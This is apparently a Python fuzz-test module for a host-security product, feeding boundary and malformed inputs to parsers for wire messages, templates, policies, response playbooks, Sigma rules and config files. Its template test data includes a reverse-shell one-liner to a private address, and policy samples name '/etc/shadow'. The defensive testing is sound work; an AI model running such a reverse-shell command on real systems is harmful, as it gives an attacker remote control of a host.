"""The fuzz targets in the test suite: every seed and saved reproducer, a
short coverage-guided run of each target, and structured (hypothesis)
inputs where a grammar reaches further than mutated bytes.

An input that breaks a contract here is a bug: save it under
``regressions/TARGET/`` (``python -m tests.fuzz`` says where it put it).
Open bugs (``targets.OPEN_BUGS``) pass in the runs and fail, as expected,
in their regression test, until fixed.  The long run: ``python -m tests.fuzz``.
"""

from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import wire
from hive._messages import Ingest, SigmaHit
from node import Config
from tests.fuzz import targets
from tests.fuzz.__main__ import fuzz

HERE = Path(__file__).resolve().parent
REGRESSIONS = HERE / "regressions"


def _files(folder: Path) -> list[tuple[str, Path]]:
    return [(t.name, f) for t in sorted(folder.iterdir()) if t.is_dir() for f in sorted(t.iterdir())]


def test_every_target_has_seeds():
    assert {name for name, _ in _files(targets.CORPUS)} == set(targets.TARGETS)


@pytest.mark.parametrize("target,seed", _files(targets.CORPUS), ids=lambda v: getattr(v, "name", v))
def test_seeds_keep_the_contract(target, seed):
    targets.run(target, seed.read_bytes())


def _regression(target: str, path: Path):
    bug = next((b for b in targets.OPEN_BUGS if b.target == target and b.name == path.name), None)
    marks = [pytest.mark.xfail(strict=True, reason=f"open: {bug.error} ({bug.owner})")] if bug else []
    return pytest.param(target, path, marks=marks, id=f"{target}/{path.name}")


@pytest.mark.parametrize("target,path", [_regression(t, p) for t, p in _files(REGRESSIONS)])
def test_saved_reproducers_keep_the_contract(target, path):
    targets.run(target, path.read_bytes())


def test_open_bugs_have_their_reproducer():
    for bug in targets.OPEN_BUGS:
        assert (REGRESSIONS / bug.target / bug.name).is_file(), bug


def test_a_call_over_its_bound_breaks_the_contract(monkeypatch):
    spin = targets.Target(lambda data: sum(range(3_000_000)), (), 0.001, ())
    monkeypatch.setitem(targets.TARGETS, "spin", spin)
    with pytest.raises(targets.ContractBroken, match="more than its bound of 0.001"):
        targets.run("spin", b"")


def test_a_foreign_error_escapes_and_an_own_one_does_not(monkeypatch):
    from hive import StoreError

    def fail(data: bytes) -> None:
        raise (KeyError if data else StoreError)("x")

    monkeypatch.setitem(targets.TARGETS, "fail", targets.Target(fail, ("hive.StoreError",), 1.0, ()))
    targets.run("fail", b"")
    with pytest.raises(KeyError):
        targets.run("fail", b"1")


@pytest.mark.parametrize("target", list(targets.TARGETS))
def test_a_short_coverage_guided_run(target, tmp_path):
    outcome = fuzz(target, seconds=1, work=tmp_path, seed=1)
    assert not outcome.failure, outcome.log.read_text(errors="replace")[-3000:]
    assert outcome.runs > 0 and outcome.coverage > 0


# -- structured inputs ----------------------------------------------------------------

FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow],
                derandomize=True)
TEXT = st.characters(blacklist_categories=["Cs"])
INT_EDGES = [0, 1, -1, 2**31 - 1, 2**31, 2**32 - 1, 2**32, 2**53 + 1, 2**63 - 1, 2**63, 2**64 - 1, -2**63,
             wire.PID_MAX, wire.PID_MAX + 1]


def _long(n: int) -> st.SearchStrategy[str]:
    """Text of exactly ``n`` characters (a bound and one past it)."""
    return st.builds(lambda c: c * n, st.sampled_from(["a", "\u00e9", "\U0001f600", "\x00", "/"]))


def _from_type(t: msgspec.inspect.Type, depth: int = 0) -> st.SearchStrategy:
    """Values for a msgspec type that sit on its bounds and just beyond
    them, and now and then of another type altogether."""
    i = msgspec.inspect
    if isinstance(t, i.IntType):
        lo = t.ge if t.ge is not None else t.gt + 1 if t.gt is not None else -2**63
        hi = t.le if t.le is not None else t.lt - 1 if t.lt is not None else 2**64 - 1
        edges = [v for v in {lo, hi, lo - 1, hi + 1, *INT_EDGES} if -2**63 <= v < 2**64]
        return st.sampled_from(sorted(edges)) | st.integers(lo, hi)
    if isinstance(t, i.FloatType):
        return st.floats() | st.sampled_from([0.0, -0.0, 1e308, -1e308, 2.0**63, 2.0**64])
    if isinstance(t, i.StrType):
        bounded = [_long(n) for n in ({t.max_length, t.max_length + 1} if t.max_length else ()) if n <= 20000]
        return st.one_of(st.text(TEXT, max_size=40), *bounded)
    if isinstance(t, i.BoolType):
        return st.booleans()
    if isinstance(t, i.NoneType):
        return st.none()
    if isinstance(t, i.BytesType):
        return st.binary(max_size=64)
    if isinstance(t, i.LiteralType):
        return st.sampled_from(list(t.values)) | st.text(TEXT, max_size=8)
    if isinstance(t, (i.ListType, i.SetType, i.FrozenSetType, i.VarTupleType)):
        if depth > 3:
            return st.just([])
        item = _from_type(t.item_type, depth + 1)
        sizes = [n for n in {t.max_length, (t.max_length or 0) + 1} if n and n <= 1100]
        return st.lists(item, max_size=3) | st.one_of(*(st.lists(item, min_size=n, max_size=n) for n in sizes)) \
            if sizes else st.lists(item, max_size=3)
    if isinstance(t, i.DictType):
        if depth > 3:
            return st.just({})
        return st.dictionaries(_from_type(t.key_type, depth + 1), _from_type(t.value_type, depth + 1), max_size=3)
    if isinstance(t, i.UnionType):
        return st.one_of(*(_from_type(m, depth) for m in t.types))
    if isinstance(t, i.StructType):
        fields = {f.encode_name: _from_type(f.type, depth + 1) for f in t.fields}
        required = {f.encode_name: fields.pop(f.encode_name) for f in t.fields if f.required}
        tag = {t.tag_field: st.just(t.tag)} if t.tag_field else {}
        return st.fixed_dictionaries({**tag, **required}, optional=fields)
    return st.none()


def _frames(message_type) -> st.SearchStrategy[bytes]:
    body = _from_type(msgspec.inspect.type_info(message_type))
    body = body | st.recursive(st.none() | st.integers(-2**63, 2**64 - 1) | st.text(TEXT, max_size=8),
                               lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
                                   st.text(TEXT, max_size=8), inner, max_size=3), max_leaves=10)
    return st.builds(lambda v, b: msgspec.msgpack.encode([v, b]), st.sampled_from([1, 1, 0, 2, -1]), body)


@FAST
@given(_frames(wire.AgentMessage))
def test_agent_frames_on_and_beyond_every_bound(frame):
    targets.run("agent_message", frame, tolerate_open_bugs=True)


@FAST
@given(_frames(wire.HiveMessage))
def test_hive_frames_on_and_beyond_every_bound(frame):
    targets.run("hive_message", frame, tolerate_open_bugs=True)


@FAST
@given(st.lists(_frames(Ingest), max_size=4))
def test_packs_of_batches_on_and_beyond_every_bound(items):
    # As a router or writer packs them: each item one Ingest frame, any of them malformed.
    targets.run("cluster_pack", msgspec.msgpack.encode([1, {"type": "packed", "batches": items}]),
                tolerate_open_bugs=True)


@FAST
@given(_frames(SigmaHit))
def test_correlation_hits_on_and_beyond_every_bound(frame):
    targets.run("correlate_hit", frame, tolerate_open_bugs=True)


@FAST
@given(_frames(wire.Enroll), st.booleans())
def test_enrollment_frames_on_and_beyond_every_bound(frame, live):
    if live:  # the same request with a token that is good
        body = msgspec.msgpack.decode(frame)
        if isinstance(body, list) and len(body) == 2 and isinstance(body[1], dict):
            body[1]["token"] = targets.TOKEN
            frame = msgspec.msgpack.encode(body)
    targets.run("enroll", frame, tolerate_open_bugs=True)


# Templates: a grammar of paths, filters and literals, hostile where it can be.
PATHS = ["event.pid", "event.cmdline", "event.argv.1", "event.argv.99", "event.filename", "alert.agent",
         "alert.events.0.pid", "alert.tags.0", "vars.webhook", "vars.nothing", "playbook.id", "event.missing"]
LITERALS = ["''", "'x'", "0", "-1", "3.5", "1e400", "-1e400", "1e-400", "0x" + "f" * 250, "9" * 300, "None",
            "True", "[]", "{}", "{1: 2}", "{[]: 1}", "{(1, [2]): 3}", "{{}}", "b'x'", "1j", "'\\x00'", "'\\ud800'",
            "(1,)", "...", "{'a'}", "[[[[[[[[]]]]]]]]", "-0.0", "'{{ event.pid }}'"]
PATTERNS = ["'(\\\\d+)'", "'(a+)+$'", "'(?P<x>a)'", "'(?=a)'", "'['", "'a{1000}{1000}'", "'\\\\x{110000}'",
            "'(a)|b'", "'.*'", "''", "'(.)(.)(.)'", "b'x'", "1", "'\\\\C'", "'(?i)BASH'", "'\\\\pL+'"]
GROUPS = ["", ", 0", ", 1", ", 3", ", -1", ", True", ", 1.0", ", 'a'", ", None", ", 2**70"]
FILTERS = st.sampled_from(["int", "str", "lower", "upper", "int()", "str(1)", "default()"]) \
    | st.builds("default({})".format, st.sampled_from(LITERALS)) \
    | st.builds("regex({}{})".format, st.sampled_from(PATTERNS), st.sampled_from(GROUPS))
EXPRESSIONS = st.builds(lambda path, filters: "{{ " + " | ".join([path, *filters]) + " }}",
                        st.sampled_from(PATHS), st.lists(FILTERS, max_size=4))
SAID = st.text(TEXT, max_size=60) | _long(wire.MAX_CMDLINE) | st.just("9" * 5000) \
    | st.just("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")


@FAST
@given(st.lists(EXPRESSIONS | st.text(TEXT, max_size=10), min_size=1, max_size=4), SAID)
def test_templates_from_a_grammar(parts, said):
    text = "".join(parts)
    targets.run("template", text.encode() + b"\0" + said.encode(), tolerate_open_bugs=True)


# Policies: rule tables with values on and beyond what each key takes.
POLICY_PATHS = st.sampled_from(["/tmp/**", "/etc/shadow", "/", "relative", "", "/a/[", "/a/[!x]", "/a/**/b/*",
                                "/" + "d" * 300, "/\u00e9/\U0001f600", "/x\x00y", "/" + "a/" * 40]) \
    | st.builds("/{}".format, st.text(TEXT, max_size=20))
MATCH = st.fixed_dictionaries({}, optional={
    "path": st.lists(POLICY_PATHS, max_size=3) | POLICY_PATHS,
    "sha256": st.lists(st.sampled_from(["ab" * 32, "AB" * 32, "ab" * 31, "zz" * 32]), max_size=2),
    "address": st.lists(st.sampled_from(["10.0.0.0/8", "10.0.0.1/8", "::/0", "::1/129", "300.1.1.1",
                                         "0.0.0.0/0", "fe80::1%eth0", "", "1.2.3.4/-1"]), max_size=3),
    "port": st.integers(-1, 70000) | st.lists(st.integers(-1, 70000) | st.sampled_from(
        ["1-65535", "2-1", "a-b", "0-0", "65535-65536", ""]), max_size=4) | st.just(list(range(1, 1100))),
    "protocol": st.sampled_from(["tcp", "udp", "icmp", ""]),
    "call": st.lists(st.sampled_from(["setuid", "setgid", "setresuid", "fork", ""]), max_size=3),
    "id": st.lists(st.integers(-2, 2**33), max_size=3) | st.integers(-2, 2**33),
})
RULE = st.fixed_dictionaries({
    "name": st.sampled_from(["r", "r-1", "r.2:x", "", "-x", "a" * 65]) | st.text(TEXT, max_size=10),
    "hook": st.sampled_from(["exec", "open", "connect", "bind", "setid", "fork", "kill"]),
    "action": st.sampled_from(["block", "audit", "allow"]),
}, optional={"match": MATCH, "description": st.text(TEXT, max_size=10) | st.integers()})
GUARD = st.fixed_dictionaries({}, optional={"unhashed": st.sampled_from(["allow", "block", "x"]),
                                            "hash_max_mb": st.integers(-1, 2**40) | st.floats(), "other": st.just(1)})


def _toml(value) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return repr(value)  # TOML spells inf and nan as Python does
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, list):
        return "[" + ", ".join(map(_toml, value)) + "]"
    return "{" + ", ".join(f"{json.dumps(k)} = {_toml(v)}" for k, v in value.items()) + "}"


@FAST
@given(st.lists(RULE, max_size=5), st.none() | GUARD, st.sampled_from([None, 1, 2, "1"]))
def test_policies_from_rule_tables(rules, guard, version):
    lines = [] if version is None else [f"version = {_toml(version)}"]
    if guard is not None:
        lines += ["[guard]", *(f"{k} = {_toml(v)}" for k, v in guard.items())]
    for rule in rules:
        lines += ["[[rule]]", *(f"{k} = {_toml(v)}" for k, v in rule.items())]
    targets.run("policy", "\n".join(lines).encode(), tolerate_open_bugs=True)


# Playbooks: mostly valid (so that they load and act), with hostile values in every key.


def mostly(good: st.SearchStrategy, bad: st.SearchStrategy) -> st.SearchStrategy:
    """``good`` seven times in eight."""
    return st.sampled_from(range(8)).flatmap(lambda i: bad if i == 0 else good)


TEMPLATE_TEXT = EXPRESSIONS | st.text(TEXT, max_size=10)
HOSTILE = TEMPLATE_TEXT | st.integers(-1, 2**64) | st.booleans() | st.none() | st.lists(TEMPLATE_TEXT, max_size=2) \
    | st.sampled_from(["/tmp/\U0001f600", "0.0.0.0/0", "::/0", "", "1e400", "\x00", "9" * 5000])
DURATIONS = mostly(st.sampled_from(["30s", "10m", "1h", "2d", 0, 90]),
                   st.sampled_from(["-1", "1e400", "9" * 400, "1.5h", "x", "", -5, 1e308, True, None]))
CONDITION = st.fixed_dictionaries({
    "field": mostly(st.sampled_from(PATHS), st.sampled_from(["event", "alert.events", "other.x", "event..pid"])),
    "op": mostly(st.sampled_from(["equals", "not_equals", "in", "not_in", "contains", "startswith", "endswith",
                                  "matches", "cidr", "lt", "gt", "exists"]), st.just("eval")),
}, optional={"value": st.sampled_from([None, True, 0, -1, 1e400, "bash", "(a+)+$", "(?=x)", "[", "10.0.0.0/8",
                                       "::/129", "x", ["a", 1, None], [], {"a": 1}, "9" * 5000])})
PID = mostly(st.just("{{ event.pid }}"), HOSTILE)
ADDRESS = mostly(st.sampled_from(["10.0.0.5", "{{ event.cmdline | regex('([0-9]{1,3}(?:[.][0-9]{1,3}){3})') }}",
                                  "10.0.0.0/8", "2001:db8::1"]), HOSTILE)
FILE = mostly(st.sampled_from(["{{ event.filename }}", "{{ event.image }}", "/tmp/x.sh"]), HOSTILE)
PARAMS = {
    "kill_process": st.fixed_dictionaries({"pid": PID}, optional={
        "tree": st.booleans(), "signal": st.sampled_from(["KILL", "TERM", "HUP"]), "exe": FILE}),
    "block_connect": st.fixed_dictionaries({"address": ADDRESS}, optional={
        "port": st.integers(-1, 70000) | st.lists(st.integers(0, 70000), max_size=3),
        "protocol": st.sampled_from(["tcp", "udp", "x"])}),
    "block_exec": st.fixed_dictionaries({}, optional={"path": FILE, "glob": FILE, "sha256": st.sampled_from(
        ["ab" * 32, "{{ event.sha256 }}", "x"])}),
    "isolate_host": st.fixed_dictionaries({}, optional={"allow": st.lists(ADDRESS, max_size=2)}),
    "unisolate": st.just({}),
    "unblock": st.fixed_dictionaries({"rule": mostly(st.just("resp-1"), HOSTILE)}),
    "quarantine_file": st.fixed_dictionaries({"path": FILE}),
    "collect_evidence": st.fixed_dictionaries({"pid": PID}, optional={"exe": st.booleans()}),
    "notify": st.fixed_dictionaries({"url": mostly(st.just("{{ vars.webhook }}"), HOSTILE)},
                                    optional={"timeout": st.integers(-1, 100) | st.floats()}),
}
STEP = st.sampled_from(sorted(PARAMS)).flatmap(lambda action: st.fixed_dictionaries({
    "action": st.just(action),
    "params": mostly(PARAMS[action], st.dictionaries(st.sampled_from(["pid", "path", "x"]), HOSTILE, max_size=2)),
}, optional={"ttl": DURATIONS, "expires": DURATIONS, "agent": mostly(st.just("{{ alert.agent }}"), TEMPLATE_TEXT),
             "mode": mostly(st.sampled_from(["auto", "approval", "dry-run"]), st.just("x")),
             "when": st.lists(CONDITION, max_size=2)}))
PLAYBOOK = st.fixed_dictionaries({
    "id": mostly(st.just("pb-1"), st.sampled_from(["", "-x", "a" * 65])),
    "title": st.text(TEXT, max_size=10),
    "trigger": mostly(st.just({"rules": ["139f073e-48c0-48af-af1c-71581a80d7da"]}), st.fixed_dictionaries({}, optional={
        "rules": st.lists(st.text(TEXT, max_size=5), max_size=2),
        "tags": st.lists(st.sampled_from(["attack.t1059.004", "x"]), max_size=2),
        "levels": st.lists(st.sampled_from(["low", "critical", "x"]), max_size=2),
        "min_level": st.sampled_from(["low", "high", "x", 3]),
        "incident": mostly(st.booleans(), st.just("yes")),
        "agents": st.lists(st.sampled_from(["fuzz-*", "[", "**", ""]), max_size=2),
    })),
    "steps": st.lists(STEP, min_size=1, max_size=3),
}, optional={"mode": mostly(st.sampled_from(["auto", "approval", "dry-run"]), st.just("x")),
             "conditions": st.lists(CONDITION, max_size=2),
             "limits": st.fixed_dictionaries({}, optional={"cooldown": DURATIONS, "key": TEMPLATE_TEXT, "rate": mostly(
                 st.just("10/1h"), st.sampled_from(["0/1h", "1/0s", "x/y", "9" * 400 + "/1s", 5]))})})


@FAST
@given(PLAYBOOK)
def test_playbooks_from_the_schema(doc):
    targets.run("playbook", yaml.safe_dump(doc, allow_unicode=True).encode(), tolerate_open_bugs=True)


# Sigma rules: detections over our fields with modifiers and values that are hard to match.
FIELD_NAMES = st.sampled_from(["Image", "CommandLine", "TargetFilename", "DestinationPort", "DestinationIp",
                               "User", "ProcessId", "ParentImage", "Nope"])
MODIFIERS = mostly(st.sampled_from([[], ["contains"], ["startswith"], ["endswith"], ["re"], ["contains", "all"],
                                    ["cidr"], ["re", "i"], ["windash"], ["base64offset", "contains"]]),
                   st.lists(st.sampled_from(["contains", "re", "all", "cidr", "base64", "i", "m", "s", "gt",
                                             "exists", "fieldref", "wide", "expand", "nope"]), max_size=3))
VALUES = st.sampled_from(["bash", "*", "?", "(a+)+$", "(?=x)", "[", "10.0.0.0/8", "::/129", 4444, -1, 2**70, 1e400,
                          None, True, "", "\x00", "%x%", "\U0001f600", "9" * 5000, "/tmp/*", "*\\*"]) \
    | st.text(TEXT, max_size=10)
CATEGORIES = mostly(st.sampled_from(["process_creation", "file_access", "network_connection", "file_event"]),
                    st.just("nope"))
CONDITIONS = mostly(st.sampled_from(["selection", "1 of sel*", "all of them", "selection and not filter"]),
                    st.sampled_from(["not selection", "selection |", "selection and (", "x"]))


@settings(FAST, max_examples=40)
@given(st.dictionaries(st.builds(lambda f, m: "|".join([f, *m]), FIELD_NAMES, MODIFIERS),
                       VALUES | st.lists(VALUES, max_size=3), min_size=1, max_size=3),
       CATEGORIES, CONDITIONS, st.dictionaries(FIELD_NAMES, VALUES, max_size=1))
def test_sigma_rules_from_detections(selection, category, condition, filter):
    doc = {"title": "t", "id": "6a2a4f0e-0000-4000-8000-000000000001", "status": "test",
           "logsource": {"product": "linux", "category": category},
           "detection": {"selection": selection, "filter": filter or {"User": "root"}, "condition": condition},
           "level": "high"}
    targets.run("sigma", yaml.safe_dump(doc, allow_unicode=True).encode(), tolerate_open_bugs=True)


def test_the_long_run_command_lists_the_targets(capsys):
    from tests.fuzz.__main__ import main

    assert main(["--list"]) == 0
    assert capsys.readouterr().out.split() == list(targets.TARGETS)


@FAST
@given(_from_type(msgspec.inspect.type_info(Config)))
def test_config_files_on_and_beyond_every_bound(doc):
    lines = []
    for section, keys in doc.items():
        # A list of tables (outputs) is written as [[section]] tables.
        for table in keys if isinstance(keys, list) else [keys]:
            lines.append(f"[[{section}]]" if isinstance(keys, list) else f"[{section}]")
            lines += [f"{json.dumps(k)} = {_toml(v)}" for k, v in table.items()]
    targets.run("config", "\n".join(lines).encode(), tolerate_open_bugs=True)
